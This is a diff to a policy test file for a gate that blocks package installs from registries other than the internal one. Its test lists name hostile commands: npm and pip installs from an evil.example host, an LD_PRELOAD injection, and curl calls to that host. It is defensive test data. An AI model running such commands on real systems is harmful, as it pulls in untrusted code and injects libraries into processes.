@@ -11,6 +11,7 @@ test_denies if {
 		"npm install https://evil.example/x.tgz",
 		"npm config set registry https://evil.example",
 		`pip install -i "$INDEX" requests`,
+		"pip install -i https://evil.example/simple ./local",
 	] {
 		count(internal_registry.deny) > 0 with input as gate.event(line)
 	}
@@ -26,7 +27,8 @@ test_passes if {
 		"pip install -i https://packages.acme.example/simple requests",
 		"npm install --registry https://npm.packages.acme.example x",
 		"npm config get registry",
-		"export EDITOR=vi",
+		"export LD_PRELOAD=./x.so",
+		"npm install x && curl https://evil.example/x",
 		"curl https://evil.example/x",
 	] {
 		count(internal_registry.deny) == 0 with input as gate.event(line)
